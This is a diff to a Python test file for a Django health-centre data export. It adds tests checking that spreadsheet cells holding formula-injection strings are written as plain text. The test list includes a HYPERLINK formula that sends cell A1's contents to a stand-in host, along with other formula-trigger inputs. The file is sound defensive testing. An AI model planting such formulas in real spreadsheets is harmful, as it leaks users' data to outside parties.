@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from puskesmas import impor
 from puskesmas.impor import (
@@ -405,3 +405,40 @@ def test_hostile_files_end_quickly_with_bounded_memory(tmp_path):
     )
     assert "10.000.000.000" in ukur["celah"]["galat"][0]
     assert ukur["tanpa_dimensi"]["galat"][0].startswith("Terlalu banyak baris data")
+
+
+BERBAHAYA = [
+    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
+    "+1+2",
+    "-3+4",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+]
+
+
+def test_exported_texts_are_never_formulas():
+    templat = Templat(
+        judul="=1+1",
+        nama_sheet="Data",
+        kolom=(Kolom("=judul", "a"), Kolom("Angka", "b", BULAT), Kolom("Desimal", "c", DESIMAL)),
+    )
+    baris = [[t, 5, Decimal("2.5")] for t in BERBAHAYA]
+    wb = load_workbook(io.BytesIO(buat_xlsx(templat, baris)))
+    ws = wb["Data"]
+    assert (ws["A1"].value, ws["A1"].data_type) == ("=judul", "s")
+    for i, t in enumerate(BERBAHAYA, start=2):
+        sel = ws.cell(row=i, column=1)
+        # XML reads a raw CR back as LF; the point is the cell type.
+        assert (sel.value, sel.data_type) == (t.replace("\r", "\n"), "s"), t
+        assert sel.quotePrefix == (t[0] in "=+-@\t\r")
+        assert (ws.cell(row=i, column=2).value, ws.cell(row=i, column=2).data_type) == (5, "n")
+        assert (ws.cell(row=i, column=3).value, ws.cell(row=i, column=3).data_type) == (2.5, "n")
+    assert (wb["Petunjuk"]["A1"].value, wb["Petunjuk"]["A1"].data_type) == ("=1+1", "s")
+
+
+def test_exported_texts_round_trip_unchanged():
+    isi = buat_xlsx(TEMPLAT, [[t, 1, 1, "BOK", None] for t in BERBAHAYA])
+    hasil = baca_xlsx(SimpleUploadedFile("t.xlsx", isi), TEMPLAT)
+    assert hasil.sah and [d["kode"] for _, d in hasil.baris] == [t.strip() for t in BERBAHAYA]
